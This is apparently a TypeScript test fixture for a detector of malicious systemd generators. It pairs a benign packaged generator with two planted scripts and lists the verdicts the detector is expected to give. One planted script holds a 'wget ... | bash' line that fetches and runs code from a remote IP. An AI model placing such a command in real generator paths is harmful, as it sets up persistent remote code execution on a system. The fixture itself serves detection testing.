import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  packaged: { '/usr/lib/systemd/system-generators/systemd-fstab-generator': script('exit 0') },
  tree: {
    '/etc/systemd/system-generators/zz-net': script('nohup /usr/local/sbin/net &'),
    '/run/systemd/user-generators/x': script('wget -qO- http://203.0.113.7/a | bash'),
  },
  blamed: [
    {
      path: '/etc/systemd/system-generators/zz-net',
      verdict: 'suspicious',
      code: 'unowned',
      attack: 'T1543.002',
    },
    {
      path: '/run/systemd/user-generators/x',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1543.002',
    },
  ],
  passed: ['systemd-fstab-generator'],
};
